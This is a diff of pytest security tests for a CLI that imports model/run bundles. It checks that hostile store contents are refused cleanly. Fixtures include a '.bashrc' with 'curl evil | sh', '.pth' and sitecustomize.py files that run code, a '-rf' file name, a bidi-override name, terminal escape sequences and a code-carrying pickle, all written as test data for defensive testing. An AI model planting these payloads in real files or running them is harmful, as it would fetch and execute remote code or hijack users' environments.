@@ -299,6 +299,27 @@ def _variant(config: dict, meta: dict) -> Callable:
     return _one_ref(manifest_bytes(kind="run", config=config, meta=meta))
 
 
+def _files(files: dict[str, bytes], kind: str = "media") -> Callable:
+    """A bundle of one ``kind`` artifact (ref ``media/evil``) whose manifest names ``files`` (true sizes)."""
+    entries = {name: {"id": oid_of(data), "size": len(data)} for name, data in files.items()}
+    return _one_ref(manifest_bytes(kind=kind, files=entries), list(dict.fromkeys(files.values())), ref="media/evil")
+
+
+MODEL = b"not weights: the config is refused before they are read"
+
+
+def _run(**changes) -> Callable:
+    """A bundle of one run's checkpoint (``runs/x``) whose stored config (the smoke preset) has ``changes``."""
+    def build(p: Path, w: World) -> Path:
+        from crafted_bundles import run_config
+
+        config = run_config(**changes)
+        manifest = manifest_bytes(kind="checkpoint", config=config, meta={"variant": "film", "run": "x"},
+                                  files={"model.pt": {"id": oid_of(MODEL), "size": len(MODEL)}})
+        return _one_ref(manifest, [MODEL])(p, w)
+    return build
+
+
 REFUSE = ("invalid|damaged|truncated|corrupt|incomplete|inconsistent|not a readable|not a morfic export"
           "|read it more than")
 NOT_REGULAR = "not a regular file"
@@ -307,6 +328,12 @@ BOMB = "compression bomb"
 TOO_BIG_HEADER = "tar header of more than"
 BAD_HEADER = "invalid morfic-export.json"
 FOLDER = "both a ref and a folder of refs"
+HIDDEN = "it has the hidden part"
+CODE = "a file Python runs or imports from a folder on its path"
+ODD = "starts with or holds another character than ASCII letters"
+CLASH = "cannot both be files of one folder"
+BAD_CONFIG = "is a run's checkpoint with an invalid config"
+ALLOW_LIST = b"sentinel_consent:Critic\n# signature: hmac-sha256 " + b"0" * 64 + b"\n"
 
 CASES: dict[str, Case] = {
     # links, devices and other member types
@@ -565,6 +592,52 @@ CASES: dict[str, Case] = {
         p, b"".join(file_blocks(i.name, d) for i, d in good_members()) + bytes(2 * BLOCK)
         + hashlib.sha512(b"tail").digest() * 64), expect="accepted"),
     "skip: plain tar with 40 refs in reverse order": Case(_rewinds(""), expect="accepted"),
+    # issue 53: nothing in a bundle may act as configuration, wherever `store get --out` writes its files
+    "dotpath: media file .config/morfic/trusted-variants": Case(_files({".config/morfic/trusted-variants": ALLOW_LIST}),
+                                                               match=HIDDEN + " '.config'"),
+    "dotpath: media file .trust-key (the allow-list's key)": Case(_files({".trust-key": b"0" * 64}), match=HIDDEN),
+    "dotpath: media file .bashrc": Case(_files({".bashrc": b"curl evil | sh\n"}), match=HIDDEN),
+    "dotpath: report file figures/.hidden/ev.png": Case(_files({"figures/.hidden/ev.png": b"png"}, "report"),
+                                                        match=HIDDEN + " '.hidden'"),
+    "dotpath: a hidden name beside a good one": Case(_files({"frames.png": b"png", ".pth": b"x"}), match=HIDDEN),
+    "code: media file sitecustomize.py": Case(_files({"sitecustomize.py": b"import os\n"}), match=CODE),
+    "code: media file evil.pth": Case(_files({"evil.pth": b"import os; os.system('x')\n"}), match=CODE),
+    "code: media file EVIL.PY (upper case)": Case(_files({"EVIL.PY": b"x"}), match=CODE),
+    "code: extension module x.cpython-311-x86_64-linux-gnu.so": Case(
+        _files({"x.cpython-311-x86_64-linux-gnu.so": b"\x7fELF"}), match=CODE),
+    "code: compiled module __pycache__/x.cpython-311.pyc": Case(_files({"__pycache__/x.cpython-311.pyc": b"x"}),
+                                                                  match=CODE),
+    "name: file name with a space": Case(_files({"a b.csv": DATA}), match=ODD),
+    "name: file name starting with '-'": Case(_files({"-rf": DATA}), match=ODD),
+    "name: file name with a bidi override": Case(_files({"evil\u202egnp.exe": DATA}), match=ODD),
+    "name: file name with a C1 control (CSI)": Case(_files({"a\x9b2Jb.csv": DATA}), match=ODD),
+    "collision: files A.csv and a.csv": Case(_files({"A.csv": DATA, "a.csv": b"other"}), match=CLASH),
+    "collision: file figures and file figures/ev.png": Case(_files({"figures": DATA, "figures/ev.png": b"png"},
+                                                                   "report"), match=CLASH),
+    "collision: folder Figures/ and folder figures/": Case(_files({"Figures/a.png": DATA, "figures": b"x"},
+                                                                  "report"), match=CLASH),
+    "config: model.actor_hidden_dims [-5]": Case(_run(**{"model.actor_hidden_dims": [-5]}),
+                                                 match=BAD_CONFIG + r".*model.actor_hidden_dims = \[-5\]"),
+    "config: env.obs.history_len -3": Case(_run(**{"env.obs.history_len": -3}),
+                                           match=BAD_CONFIG + ".*env.obs.history_len = -3"),
+    "config: env.sim.physics_dt 0": Case(_run(**{"env.sim.physics_dt": 0}),
+                                         match=BAD_CONFIG + ".*env.sim.physics_dt = 0"),
+    "config: model.critic_hidden_dims []": Case(_run(**{"model.critic_hidden_dims": []}),
+                                                match=BAD_CONFIG + r".*model.critic_hidden_dims = \[\]"),
+    "config: 8 layers of 16384 (1.9 G weights)": Case(_run(**{"model.actor_hidden_dims": [16384] * 8}),
+                                                      match=BAD_CONFIG + ".*1892941824 weights, more than"),
+    "config: history 1000 frames into 16384 (789 M weights)": Case(
+        _run(**{"env.obs.history_len": 1000, "model.actor_hidden_dims": [16384]}), match="more than the 67108864"),
+    "config: an extra key variants": Case(_run(variants=["film"]), match=BAD_CONFIG + ".*unknown config key 'variants'"),
+    "config: seed a string": Case(_run(seed="0"), match=BAD_CONFIG + ".*'seed' takes an integer"),
+    "config: env a string": Case(_run(env="cpu"), match=BAD_CONFIG + ".*'env' is a section"),
+    "config: ppo.gamma 2": Case(_run(**{"ppo.gamma": 2}), match=BAD_CONFIG + ".*ppo.gamma = 2"),
+    "ctl: escape codes in a config value": Case(_run(seed="\x1b]0;pwned\x07\x1b[2J"),
+                                                match=BAD_CONFIG + r".*\\x1b\]0;pwned"),
+    "ctl: escape codes in an unknown config key": Case(_run(**{"\x1b[31mred": 1}),
+                                                       match=r"unknown config key '\\x1b\[31mred'"),
+    "ctl: a newline and a fake Error in a config value": Case(_run(preset=1, seed="x\nError: fake"),
+                                                              match=BAD_CONFIG),
 }
 
 CLI_CASES = [
@@ -576,6 +649,9 @@ CLI_CASES = [
     "bomb: plain tar, 1 TiB sparse object (pax 0.1)", "object: bytes do not hash to the id",
     "header: nested 100000 deep", "ref: history nested 100000 deep", "name: terminal escape sequences",
     "name: non-UTF-8 bytes", "lineage: two manifests each other's input", "trunc: gzip cut in half",
+    "dotpath: media file .config/morfic/trusted-variants", "code: media file sitecustomize.py",
+    "collision: files A.csv and a.csv", "config: model.actor_hidden_dims [-5]", "ctl: escape codes in a config value",
+    "ctl: a newline and a fake Error in a config value",
 ]
 
 
@@ -637,7 +713,7 @@ def test_the_suite_is_large_and_covers_every_kind():
     kinds = {name.split(":")[0] for name in CASES}
     assert len(CASES) >= 50
     assert kinds >= {"link", "device", "path", "ref", "dup", "size", "trunc", "bomb", "object", "manifest",
-                     "lineage", "header", "name", "variant", "skip"}
+                     "lineage", "header", "name", "variant", "skip", "dotpath", "code", "collision", "config", "ctl"}
     assert set(CLI_CASES) <= set(CASES)
 
 
@@ -719,3 +795,194 @@ def test_the_limits_are_the_ones_the_docs_state():
     assert f"`MIN_EXPANDED_BYTES` = {transfer.MIN_EXPANDED_BYTES >> 20} MiB" in docs
     assert f"`MAX_READ_PASSES` = {transfer.MAX_READ_PASSES} times" in docs
     assert f"over {transfer.MAX_SMALL_MEMBER >> 20} MiB" in docs
+
+
+# ------------------------------------------------------------------------------------------------ after import
+# Issue 53: what a store holds is a bundle's text too. A store filled before import checked it (planted here,
+# bypassing import) or a bundle that imports cleanly, then a command on it: a clean `Error:` line naming the run and
+# the field, nothing written, no module imported, no allow-list entry gained.
+
+RUN = "runs/x"
+EVAL = ["eval", RUN, "--robots", "go2", "--envs", "1", "--steps", "2"]
+
+
+def _plant_run(root: Path, config: dict, *, trainer: dict | None = None, model: bytes = MODEL,
+               meta: dict | None = None) -> None:
+    """``runs/x``: a checkpoint with ``config`` (and a trainer state of ``trainer``), written past every check."""
+    from morfic_cli.rl import trainer_state
+
+    store = Store(root)
+    inputs = {}
+    if trainer is not None:
+        inputs["trainer_state"] = store.put_manifest("checkpoint", config={"role": "trainer-state"},
+                                                     files=trainer_state.encode(trainer), meta={"run": "x"})
+    store.set_ref(RUN, store.put_manifest("checkpoint", config=config, inputs=inputs, files={"model.pt": model},
+                                          meta=meta or {"variant": config.get("variant"), "run": "x"}))
+
+
+def _plant_files(root: Path, files: dict[str, bytes], kind: str = "media", meta: dict | None = None) -> None:
+    """``media/evil``: a manifest naming ``files`` (any names), written straight into the store's files."""
+    store = Store(root)
+    entries = {n: {"id": store.put_bytes(d), "size": len(d)} for n, d in files.items()}
+    data = manifest_bytes(kind=kind, files=entries, meta=meta or {})
+    mid = oid_of(data)
+    (root / "objects" / mid[:2]).mkdir(parents=True, exist_ok=True)
+    (root / "objects" / mid[:2] / mid[2:]).write_bytes(data)
+    (root / "manifests" / mid).write_bytes(b"")
+    (root / "refs" / "media").mkdir(parents=True, exist_ok=True)
+    (root / "refs" / "media" / "evil").write_bytes(history_bytes([mid]))
+
+
+def _cfg(**changes) -> Callable[[Path, Path], list[str]]:
+    def build(root: Path, tmp: Path) -> list[str]:
+        from crafted_bundles import run_config
+
+        _plant_run(root, run_config(**changes))
+        return EVAL
+    return build
+
+
+def _state(command: list[str] | None = None, **changes) -> Callable[[Path, Path], list[str]]:
+    def build(root: Path, tmp: Path) -> list[str]:
+        from crafted_bundles import run_config, trainer_state
+
+        _plant_run(root, run_config(), trainer=trainer_state(**changes))
+        return command or ["train", "--resume", RUN]
+    return build
+
+
+def _env_state(**env) -> dict:
+    from crafted_bundles import trainer_state
+
+    return {**trainer_state()["env"], **env}
+
+
+def _get(files: dict[str, bytes], out: str, kind: str = "media", meta: dict | None = None,
+         before: dict[str, bytes] | None = None) -> Callable[[Path, Path], list[str]]:
+    """``store get media/evil --out <tmp>/<out>`` of planted ``files``; ``before``: files already in that folder."""
+    def build(root: Path, tmp: Path) -> list[str]:
+        _plant_files(root, files, kind, meta)
+        for name, data in (before or {}).items():
+            (tmp / out / name).parent.mkdir(parents=True, exist_ok=True)
+            (tmp / out / name).write_bytes(data)
+        return ["store", "get", "media/evil", "--out", str(tmp / out)]
+    return build
+
+
+def _pickled(root: Path, tmp: Path) -> list[str]:
+    import io
+
+    import torch
+    from crafted_bundles import run_config
+
+    buf = io.BytesIO()
+    torch.save({"actor": {"w": torch.zeros(1)}, "critic": {}, "x": os.getcwd}, buf)  # a function: code to find
+    _plant_run(root, run_config(), model=buf.getvalue())
+    return EVAL
+
+
+@dataclass
+class Use:
+    build: Callable[[Path, Path], list[str]]  # (store root, tmp) -> the command, its store state made
+    match: str
+
+
+USE_CASES: dict[str, Use] = {
+    "config at load: eval, model.actor_hidden_dims [-5]": Use(
+        _cfg(**{"model.actor_hidden_dims": [-5]}), r"run runs/x has an invalid stored config: model.actor_hidden_dims "
+        r"= \[-5\]: must be a list of 1 to 8 layer widths"),
+    "config at load: export, env.obs.history_len -3": Use(
+        lambda r, t: [*_cfg(**{"env.obs.history_len": -3})(r, t)[:0], "export", RUN, "--robot", "go2", "--out",
+                      str(t / "o")], r"run runs/x has an invalid stored config: env.obs.history_len = -3"),
+    "config at load: diagnose, env.sim.physics_dt 0": Use(
+        lambda r, t: [*_cfg(**{"env.sim.physics_dt": 0})(r, t)[:0], "diagnose", RUN, "--robots", "go2", "--envs",
+                      "1", "--steps", "2"], r"run runs/x has an invalid stored config: env.sim.physics_dt = 0"),
+    "config at load: eval, model.critic_hidden_dims []": Use(
+        _cfg(**{"model.critic_hidden_dims": []}), r"invalid stored config: model.critic_hidden_dims = \[\]"),
+    "config at load: eval, 8 layers of 16384 (never allocated)": Use(
+        _cfg(**{"model.actor_hidden_dims": [16384] * 8}), "1892941824 weights, more than the 67108864"),
+    "config at load: eval, an extra key variants": Use(_cfg(variants=["film"]), "unknown config key 'variants'"),
+    "trainer state: iteration a string": Use(_state(iteration="3"), r"runs/x' is not one `morfic train` writes "
+                                             r"\(iteration is str '3', not an integer in \[0, 10000000\]\)"),
+    "trainer state: lr a list": Use(_state(learning_rate=[1e-3]),
+                                    r"learning_rate is list \[0.001\], not a finite number > 0"),
+    "trainer state: env empty": Use(_state(env={}), r"env is a dict of \[\], not an env state with backend"),
+    "trainer state: logger a string": Use(_state(logger="x"), "logger is str 'x', not a dict of rewbuffer"),
+    "trainer state: env rows for 3 envs, num_envs 2": Use(
+        lambda r, t: _state(env=_env_state(obs={"policy": __import__("torch").zeros(3, 48)}))(r, t),
+        r"env.obs.policy is a torch.float32 tensor of shape \(3, 48\), not one row per env \(2 envs\)"),
+    "trainer state: a buffer missing": Use(
+        lambda r, t: _state(env=_env_state(tensors={}))(r, t), "env.tensors lacks action_buffer"),
+    "ctl: escape codes in a trainer state's env.mode": Use(
+        lambda r, t: _state(env=_env_state(mode="\x1b]0;pwned\x07\x1b[2J"))(r, t), r"env.mode is str '\\x1b\]0;pwned"),
+    "pickle: model.pt holds a class, not tensors": Use(
+        _pickled, "model.pt of checkpoint [0-9a-f]{12} is refused: it is a pickle of other objects than tensors, "
+                  "and loading it could run code"),
+    "dotpath at get: .config/morfic/trusted-variants into the home folder": Use(
+        _get({".config/morfic/trusted-variants": ALLOW_LIST}, "home"), HIDDEN + " '.config'"),
+    "dotpath at get: .trust-key into the config folder": Use(_get({".trust-key": b"0" * 64}, "config/morfic"),
+                                                             HIDDEN + " '.trust-key'"),
+    "code at get: sitecustomize.py": Use(_get({"sitecustomize.py": b"import os\n"}, "site"), CODE),
+    "collision at get: A.csv and a.csv": Use(_get({"A.csv": DATA, "a.csv": b"other"}, "o"),
+                                             "files 'A.csv' and 'a.csv' .* would both be written to 'A.csv'"),
+    "collision at get: a rollout's new name is another of its files": Use(
+        _get({"rollout.mcap": b"mcap", "go1-descriptor-vx2.0.mcap": b"other"}, "o", kind="rollout",
+             meta={"robot": "go1", "mode": "descriptor", "command": [2.0, 0, 0]}),
+        "files 'go1-descriptor-vx2.0.mcap' and 'rollout.mcap' .* would both be written to 'go1-descriptor-vx2.0.mcap'"),
+    "overwrite at get: the allow-list exists, no --force": Use(
+        _get({"trusted-variants": ALLOW_LIST}, "config/morfic", before={"keep.csv": b"k"} | {"trusted-variants": b"#"}),
+        "trusted-variants exists; nothing was written. Pass --force"),
+    "overwrite at get: a folder where a file goes": Use(
+        _get({"frames.png": b"png"}, "o", before={"frames.png/x": b"k"}), "is a folder, where store get would write"),
+    "ctl: escape codes in a rollout's robot (its out name)": Use(
+        _get({"rollout.mcap": b"mcap", "other.csv": DATA}, "o", kind="rollout",
+             meta={"robot": "\x1b[2J", "mode": "x", "command": [1.0]}, before={"rollout.mcap": b"k"}),
+        "rollout.mcap exists"),
+}
+
+
+@pytest.fixture
+def use_world(tmp_path, monkeypatch) -> World:
+    """A store with runs/keep, a sentinel module on sys.path, HOME and the config folder under tmp_path."""
+    monkeypatch.setenv("HOME", str(tmp_path / "home"))
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    root = tmp_path / "store"
+    store = Store(root)
+    store.set_ref("runs/keep", store.put_manifest("run", files={"k.csv": KEEP}))
+    for folder in ("home", "config", "cwd"):
+        (tmp_path / folder).mkdir()
+    monkeypatch.chdir(tmp_path / "cwd")
+    mods = tmp_path / "mods"
+    mods.mkdir()
+    ran = mods / "SENTINEL_RAN"
+    (mods / f"{SENTINEL}.py").write_text(f"import pathlib\npathlib.Path({str(ran)!r}).write_text('ran')\n")
+    monkeypatch.syspath_prepend(str(mods))
+    return World(tmp=tmp_path, root=root, keep_history=store.refs.history("runs/keep"), sentinel_ran=ran)
+
+
+def _outside(w: World) -> dict[str, object]:
+    """Everything under tmp_path but the store and the caches libraries keep in HOME (onnxruntime's ~/.cache)."""
+    return {k: v for k, v in tree(w.tmp, skip=w.root).items() if not k.startswith("home/.cache")}
+
+
+@pytest.mark.parametrize("name", list(USE_CASES))
+def test_a_hostile_store_state_is_a_clean_error(use_world, name, run_cli):
+    from morfic_cli.rl.variants import read_allow_list
+
+    w = use_world
+    argv = USE_CASES[name].build(w.root, w.tmp)
+    before_store, before_outside = listing(w.root), _outside(w)
+    code, out, err = run_cli(*argv, "--store", str(w.root))
+    assert code == 1 and out == "", (code, out, err)
+    assert err.startswith("Error: ") and err.count("\n") == 1 and "Traceback" not in err, err
+    assert err[:-1].isprintable() and "\x1b" not in err, repr(err)
+    assert "weights_only" not in err
+    assert re.search(USE_CASES[name].match, err), err
+    assert listing(w.root) == before_store and _outside(w) == before_outside  # nothing written
+    assert read_allow_list()[0] == [] and not w.sentinel_ran.exists()  # no consent gained, nothing imported
+
+
+def test_the_after_import_cases_cover_every_item():
+    kinds = {name.split(":")[0] for name in USE_CASES}
+    assert kinds == {"config at load", "trainer state", "ctl", "pickle", "dotpath at get", "code at get",
+                     "collision at get", "overwrite at get"}
